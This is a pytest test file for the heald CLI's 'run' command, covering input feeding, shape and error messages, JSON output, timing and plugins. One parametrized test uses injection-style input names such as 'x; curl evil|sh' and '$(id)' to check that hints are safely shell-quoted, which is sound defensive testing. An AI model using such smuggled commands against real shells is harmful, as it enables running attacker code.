"""heald run: feeding, fetching, summaries, timing."""

import json
import re
import shlex
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from builders.graphs import const, node, placeholder
from heald.errors import InvalidArgument
from heald.graphs.graph.graph import Node
from heald.runtime.values import dtypes
from heald.runtime.values.tensor import TensorMetadata
from heald_tools.inputs import made_up_array

PLUGIN = """
from heald.api import OpSpec, hookimpl

HEALD_API = (1, 0)

@hookimpl
def heald_ops(registry):
    same = lambda attrs, x: x
    registry.add(OpSpec("Mine>Twice", inputs=["x: T"], outputs=["y: T"], attrs=["T: {float}"], metadata=same))

@hookimpl
def heald_kernels(registry):
    registry.kernels("CPU", register)

def register(kernels):
    kernels.kernel("Mine>Twice", dtypes={"T": "float32"})(lambda b: lambda x, y: y.__setitem__(..., x + x))
"""


@pytest.fixture
def twice(saved):
    """y = x + x, of any number of rows of two."""
    return saved(placeholder("x", (None, 2)), node("y", "AddV2", "x", "x"))


@pytest.fixture
def both(saved):
    """Two inputs of different types, two outputs."""
    return saved(
        placeholder("a", (2,)), placeholder("b", (2,), dtypes.int64),
        node("sum", "AddV2", "a", "a"), node("minus", "Neg", "b", T=dtypes.int64),
    )


@pytest.fixture
def words(saved):
    return saved(placeholder("s", None, dtypes.string), node("t", "Identity", "s", T=dtypes.string))


def outputs(done):
    assert (done.status, done.err) == (0, "")
    return {name: output["values"] for name, output in json.loads(done.out)["outputs"].items()}


def test_a_small_output_is_printed_whole(command, twice):
    assert command("run", twice, "--input", "x=[[1, 2.5]]") == (0, "y float32[1,2]\n  [[2. 5.]]\n", "")


def test_a_large_output_is_summarised(command, saved):
    model = saved(placeholder("x", (None,)), node("y", "Neg", "x"))
    np.save("x.npy", np.r_[np.nan, np.arange(100.0)].astype(np.float32))
    assert command("run", model, "--input", "x.npy").out.splitlines() == [
        "y float32[101]",
        "  min -99  mean -49.5  max -0  1 of 101 not finite",
        "  top 5: [1] -0  [2] -1  [3] -2  [4] -3  [5] -4",
    ]


def test_json_has_type_shape_values_and_what_json_cannot_write_as_text(command, twice):
    done = command("run", twice, "--input", "x=[[1, Infinity]]", "--json")
    report = json.loads(done.out)
    assert report["outputs"]["y"] == {
        "dtype": "float32", "shape": [1, 2], "min": 2, "mean": 2, "max": 2, "not_finite": 1,
        "top": [{"index": 1, "value": "Infinity"}, {"index": 0, "value": 2}], "values": [[2, "Infinity"]],
    }
    assert report["times"].keys() == {"first_ms"}


@pytest.mark.parametrize(("text", "dtype", "value"), [
    ("3", dtypes.int32, 3), ("-2.5", dtypes.float32, -2.5), ("true", dtypes.bool_, True), ("1e3", dtypes.int64, 1000),
    ("[[1],[2]]", dtypes.uint8, [[1], [2]]), ("-inf", dtypes.float64, "-Infinity"),
    ("1+2j", dtypes.complex64, "(1+2j)"),
    ("plain text", dtypes.string, "plain text"), ("3", dtypes.string, "3"), ('["a", "b"]', dtypes.string, ["a", "b"]),
    ('"x.npy"', dtypes.string, "x.npy"),
])
def test_values_are_read_for_the_type_of_the_input(command, saved, text, dtype, value):
    model = saved(placeholder("x", None, dtype), node("y", "Identity", "x", T=dtype))
    assert outputs(command("run", model, "--input", f"x={text}", "--json")) == {"y": value}


def test_files_of_every_kind_are_read(command, twice, tmp_path):
    rows = np.array([[1, 2], [3, 4]], np.float32)
    np.save("x.npy", rows)
    np.savez("named.npz", x=rows, other=0)
    np.savez("one.npz", z=rows)
    (tmp_path / "x.txt").write_text("1 2\n3 4\n")
    (tmp_path / "flat.txt").write_text("1 2 3 4")
    (tmp_path / "x.json").write_text("[[1, 2], [3, 4]]")
    for text in ("x.npy", "named.npz", "one.npz", "one.npz:z", "x.txt", "flat.txt", "x.json"):
        assert outputs(command("run", twice, "--input", text, "--json")) == {"y": [[2, 4], [6, 8]]}, text


def test_lines_of_a_text_file_feed_strings(command, words, tmp_path):
    (tmp_path / "s.txt").write_text("one\ntwo words\n")
    assert outputs(command("run", words, "--input", "s=s.txt", "--json")) == {"t": ["one", "two words"]}
    assert command("run", words, "--input", "s=hello").out == "t string[]\n  b'hello'\n"


@pytest.mark.parametrize(("text", "dtype", "shape", "value"), [
    ("33", dtypes.float32, (None, 1), [[33]]), ("33", dtypes.int64, (None,), [33]),
    ("33", dtypes.int32, (1, 1), [[33]]), ("true", dtypes.bool_, (None, None, 1), [[[True]]]),
    ("[1, 2, 3]", dtypes.float32, (None, 3), [[1, 2, 3]]), ("[1, 2, 3]", dtypes.float32, (None, 1), [[1], [2], [3]]),
    ("[[1], [2]]", dtypes.float32, (None, 2, 1), [[[1], [2]]]),
    ("some text", dtypes.string, (None, 1), [["some text"]]), ("some text", dtypes.string, (None,), ["some text"]),
    ('["a", "b"]', dtypes.string, (None, 1), [["a"], ["b"]]),
    ("lines.txt", dtypes.string, (None, 1), [["one"], ["two words"]]),
    ("lines.txt", dtypes.string, (None,), ["one", "two words"]), ("list.json", dtypes.float32, (None, 2), [[1, 2]]),
])
def test_values_get_the_dimensions_of_length_1_that_they_lack(command, saved, tmp_path, text, dtype, shape, value):
    (tmp_path / "lines.txt").write_text("one\ntwo words\n")
    (tmp_path / "list.json").write_text("[1, 2]")
    model = saved(placeholder("x", shape, dtype), node("y", "Identity", "x", T=dtype))
    assert outputs(command("run", model, "--input", f"x={text}", "--json")) == {"y": value}


@pytest.mark.parametrize(("text", "shape", "shape_text"), [
    ("33", (None, 2), "[]"), ("[1, 2, 3]", (None, 2), "[3]"), ("[]", (None, 1), "[0]"),
    ("x.npy", (None, 2), "[2]"),
])
def test_values_that_fit_with_no_dimension_of_length_1_are_told_as_they_are(command, saved, text, shape, shape_text):
    np.save("x.npy", np.zeros(2, np.float32))
    model = saved(placeholder("x", shape), node("y", "Neg", "x"))
    assert command("run", model, "--input", f"x={text}").err.startswith(f"error: feed 'x' has shape {shape_text}")


@pytest.mark.parametrize(("text", "message"), [
    ("x=word", "input 'x' is float32[?,2]; 'word' is no number, no JSON list and no file of a known kind"),
    ("x=nothere.npy", "there is no file 'nothere.npy' for input 'x'"),
    ("x=some.npz:q", "'some.npz' has no array 'q'"),
    ("x=some.npz", "'some.npz' has no array 'x'"),
    ("x=odd.txt", "'odd.txt' has 3 numbers, which do not fill 'x', float32[?,2]"),
    ("x=words.txt", "'words.txt': 'zwei' is no number"),
    ("x=broken.npy", "'broken.npy': this is no .npy file"),
    ("x=broken.npz", "'broken.npz' cannot be read: "),
    ("x=broken.json", "'broken.json' cannot be read: "),
    ("x=single.npz", "'single.npz': the file holds a single array"),
    ("x=several.npy", "'several.npy': the file holds several arrays"),
    ("x=deep.json", "'deep.json' cannot be read: "),
    ("x=odd.txt:k", "'odd.txt:k': only an .npz file has arrays by name"),
    ("x=[[1, 2, 3]]", "feed 'x' has shape [1,3], the tensor's is [?,2]"),
    ("z=3", "feed 'z': no node is called 'z'"),
])
def test_an_input_that_cannot_be_fed_is_told(command, twice, tmp_path, text, message):
    np.savez("some.npz", a=1, b=2)
    (tmp_path / "several.npy").write_bytes((tmp_path / "some.npz").read_bytes())
    np.save("single.npy", 1)
    (tmp_path / "single.npy").rename("single.npz")
    (tmp_path / "deep.json").write_text("[" * 100_000)
    (tmp_path / "odd.txt").write_text("1 2 3")
    (tmp_path / "words.txt").write_text("1 zwei")
    for name in ("broken.npy", "broken.npz", "broken.json"):
        (tmp_path / name).write_text("{nonsense")
    done = command("run", twice, "--input", text)
    assert (done.status, done.out) == (1, "")
    assert done.err.startswith(f"error: {message}")


def test_a_file_name_for_a_string_input_can_be_quoted(command, words):
    done = command("run", words, "--input", "s=nothere.txt")
    assert done.err.splitlines()[1] == """  hint: for the text itself write s='"nothere.txt"'"""


@pytest.mark.parametrize("name", ["a>b", "a->evil"])
def test_the_name_of_an_input_is_one_word_of_a_command(command, saved, name):
    static, unknown = (placeholder(name, shape) for shape in ((2,), None))
    done = (command("run", saved(static, node("y", "Identity", name))).err,
            command("explain", saved(unknown, node("y", "Neg", name))).out)
    for text in done:
        line = next(line for line in text.splitlines() if "--input " in line)
        words = shlex.shlex(line, posix=True, punctuation_chars=True)  # as a shell: > is a word of its own
        words.whitespace_split = True
        assert [*words][-1] in (f"{name}=FILE.npy", f"{name}:1")


@pytest.mark.parametrize("name", ["x; curl evil|sh", "$(id)", "`id`", "it's", "-o evil"])  # of a signature
def test_any_name_of_an_input_is_one_word_of_a_hint(name):
    with pytest.raises(InvalidArgument) as caught:
        made_up_array(TensorMetadata(dtypes.string, (1,)), name)
    assert shlex.split(str(caught.value.hint)) == ["--input", f"{name}=FILE.npy"]


@pytest.mark.parametrize(("text", "kind"), [("texts.csv", "a file of no known kind"), ("imgs", "a folder"),
                                            ("3", "a file of no known kind"), ("README", "a file of no known kind")])
def test_a_path_that_exists_is_never_the_text_itself(command, words, tmp_path, text, kind):
    (tmp_path / "imgs").mkdir()
    for name in ("texts.csv", "3", "README"):
        (tmp_path / name).write_text("a,b")
    for name in ("run", "bench", "trace", "diff"):
        if name == "run" and text in ("texts.csv", "imgs"):
            continue  # many rows: see test_run_rows.py
        device = ("--device", "CPU:0") if name == "diff" else ()
        done = command(name, words, "--input", f"s={text}", *device)
        assert (done.status, done.out) == (1, "")
        error, hint = done.err.splitlines()
        assert error == f"error: input 's' is string<unknown rank>; '{text}' is {kind}"
        assert hint.endswith(f"""for the text itself write s='"{text}"'""")
    assert outputs(command("run", words, "--input", f's="{text}"', "--json")) == {"t": text}


@pytest.mark.parametrize("text", ["no such file", "a/b", "x" * 5000, "with \0 zero", ""])
def test_text_that_is_no_path_is_the_text_itself(command, words, text):
    assert outputs(command("run", words, "--input", f"s={text}", "--json")) == {"t": text}


@pytest.mark.parametrize("name", ["run", "bench", "trace", "diff", "explain", "compile"])
def test_a_device_that_is_not_there_is_an_error_of_every_command(command, twice, tmp_path, name):
    arguments_of_command = {
        "explain": ["--input", "x=1,2"], "compile": ["--input", "x:1,2", "-o", str(tmp_path / "m.bef")],
        "diff": ["--input", "x=[[1,2]]"], "bench": ["--input", "x=[[1,2]]"]}
    done = command(name, twice, *arguments_of_command.get(name, ["--input", "x=[[1,2]]"]), "--device", "FOO:0")
    assert (done.status, done.out) == (1, "")
    assert done.err.startswith("error: device FOO:0: no plugin brings the device type FOO")


@pytest.mark.parametrize("option", [("--device", "CPU:0"), ("--input", "x=1"), ("--fetch", "y"), ("--json",),
                                    ("--output", "out.npz"), ("--target", "y"), ("--repeat", "2")])
def test_an_option_of_models_is_an_error_for_a_host_program(command, tmp_path, option):
    (tmp_path / "p.mlir").write_text("func.func @main() { tfrt.return }")
    assert command("run", str(tmp_path / "p.mlir")).status == 0
    done = command("run", str(tmp_path / "p.mlir"), *option)
    assert (done.status, done.out) == (1, "")
    assert done.err.startswith(f"error: {option[0]} is for models, and '{tmp_path / 'p.mlir'}' is a host program")


def test_json_tells_which_values_it_leaves_out_and_how_they_are_had(command, twice, tmp_path):
    np.save("x.npy", np.ones((501, 2), "f4"))
    report = json.loads(command("run", twice, "--input", "x=x.npy", "--json").out)["outputs"]["y"]
    assert report["left_out"] == "1002 values, more than 1000: --output FILE.json or FILE.npz writes them"
    assert "values" not in report
    done = command("run", twice, "--input", "x=x.npy", "--json", "--output", "y.npz")
    report = json.loads(done.out)["outputs"]["y"]
    assert (report["file"], "left_out" in report) == ("y.npz", False)


def test_all_missing_inputs_are_named_with_type_and_shape(command, both):
    assert command("run", both).err.splitlines() == [
        "error: the model needs inputs: a float32[2], b int64[2]",
        "  hint: --input a=FILE.npy --input b=FILE.npy",
    ]
    assert command("run", both, "--input", "a=[1,2]").err.startswith("error: the model needs an input: b int64[2]\n")


def test_an_input_without_a_name_needs_a_model_with_one_input(command, both):
    done = command("run", both, "--input", "[1,2]")
    assert done.err.startswith("error: --input '[1,2]' names no input, and the model has 2 inputs: a, b\n")


def test_an_input_is_given_once(command, both):
    assert command("run", both, "--input", "a=[1,2]", "--input", "a=[1,2]").err == "error: input 'a' is given twice\n"


def test_fetching_needs_only_the_inputs_of_what_is_fetched(command, both):
    assert outputs(command("run", both, "--fetch", "minus:0", "--input", "b=[1,2]", "--json")) == {"minus:0": [-1, -2]}


def test_tensors_in_the_middle_can_be_fed(command, saved):
    model = saved(placeholder("x", ()), node("mid", "Neg", "x"), node("y", "Neg", "mid"))
    assert outputs(command("run", model, "--input", "mid=2", "--json")) == {"y": -2}


def test_a_target_runs_for_its_effect_and_fetches_nothing(command, saved):
    bad = saved(placeholder("x", ()), node("abs", "RiscAbs", "x"), Node("done", "NoOp", ["^abs"]),
                node("same", "Identity", "x"))  # RiscAbs has no kernel
    assert command("run", bad, "--fetch", "same", "--input", "1").out == "same float32[]\n  1.\n"
    done = command("run", bad, "--target", "done", "--input", "1")
    assert done.status == 1
    assert "where: node 'abs'" in done.err
    good = saved(placeholder("x", ()), node("y", "Neg", "x"), Node("done", "NoOp", ["^y"]))
    assert command("run", good, "--target", "done", "--input", "1") == (0, "ran done\n", "")


@pytest.mark.parametrize(("arguments", "status", "out"), [
    (["run", "MODEL", "--input", "[[1, 2]]"], 0, "y float32[1,2]\n  [[2. 4.]]\n"),
    (["translate", "MODEL", "-o", "MODEL.pbtxt"], 0, "wrote "),
    (["opt", "MODEL", "-o", "MODEL.opt.pb", "--passes", "activations"], 0, "wrote "),
    (["translate", "p.mlir", "-o", "p.bef"], 1, ""),
])
def test_commands_on_models_need_no_distribution_of_host_programs(twice, arguments, status, out):
    code = ("import sys; sys.modules['heald_mlir'] = None; from heald.cli import main; sys.exit(main("
            f"{[argument.replace('MODEL', twice) for argument in arguments]!r}))")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert done.returncode == status, done.stderr
    assert out in done.stdout
    assert status == 0 or "heald.mlir is part of heald-mlir" in done.stderr


def test_a_target_that_is_not_there_is_told_before_its_inputs(command, twice):
    done = command("run", twice, "--target", "x_", "--input", "3")
    assert done.err == "error: target 'x_': no node is called 'x_'\n  hint: did you mean x?\n"


def test_repeat_times_the_runs_after_the_first(command, twice):
    done = command("run", twice, "--input", "x=[[1,2]]", "--repeat", "3")
    times = re.sub(r"\d+\.\d{3}", "#", done.out.splitlines()[-1])
    assert times == "first run # ms, which links; then 3 runs: min #  median #  max # ms"
    times = json.loads(command("run", twice, "--input", "x=[[1,2]]", "--repeat", "3", "--json").out)["times"]
    assert times["runs"] == 3
    assert times["min_ms"] <= times["median_ms"] <= times["max_ms"]


def test_a_run_ends_at_its_time_limit(command, saved, tmp_path):
    types = {"component_types": (dtypes.float32,)}
    model = saved(placeholder("x", ()), Node("q", "FIFOQueueV2", attrs=types),
                  Node("d", "QueueDequeueV2", ["q"], attrs=types), node("y", "AddV2", "d", "x"))
    compiled = tmp_path / "model.bef"
    assert command("compile", model, "--input", "x:", "-o", compiled).status == 0
    for file in (model, compiled):
        done = command("run", file, "--input", "x=1", "--timeout", "0.02")
        assert done == (1, "", "error: the run took longer than its timeout of 0.02 s\n")


@pytest.mark.parametrize("limit", ["-1", "nan", "soon", ""])
def test_a_time_limit_is_a_number_of_seconds(command, twice, limit):
    done = command("run", twice, "--input", "x=[[1, 2]]", f"--timeout={limit}")
    assert (done.status, done.out) == (2, "")
    assert f"'{limit}' is no number of seconds from 0 on" in done.err
    assert command("run", twice, "--input", "x=[[1, 2]]", "--timeout", "60", "--repeat", "2").status == 0


def test_a_one_file_plugin_is_registered_before_loading(command, saved, tmp_path):
    model = saved(placeholder("x", ()), node("y", "Mine>Twice", "x"))
    assert command("run", model, "--input", "2").err.startswith("error: no op is called 'Mine>Twice'")
    (tmp_path / "plugin_of_the_run_test.py").write_text(PLUGIN)
    assert outputs(command("run", model, "--input", "2", "--plugin", "plugin_of_the_run_test.py", "--json")) == {"y": 4}


def test_a_plugin_that_cannot_be_used_is_an_error(command, twice):
    assert command("run", twice, "--plugin", "nothere.py").err.startswith("error: plugin nothere is failed: ")


def test_the_digits_are_told_apart(command, digits):
    model, images = digits / "frozen.pb", digits / "test.npz"
    done = command("run", model, "--input", images, "--fetch", "digit", "--output", "out.npz")
    assert done == (0, "wrote out.npz: digit int32[540]\n", "")
    with np.load("out.npz") as outputs, np.load(images) as images_archive:
        assert np.array_equal(outputs["digit"], images_archive["digit"])


def test_strings_and_half_floats_are_told_too(command, saved):
    model = saved(const("a", [1.5, 2], dtypes.bfloat16.numpy), node("b", "Identity", "a", T=dtypes.bfloat16))
    assert command("run", model).out == "b bfloat16[2]\n  [1.5 2. ]\n"


def test_variables_that_a_signature_changes_begin_with_what_was_saved(command):
    model = Path(__file__).parents[1] / "data" / "saved_models" / "control_flow" / "model"
    done = command("run", model, "--signature", "count", "--input", "by=2", "--json")
    assert json.loads(done.out)["outputs"]["n"]["values"] == 2
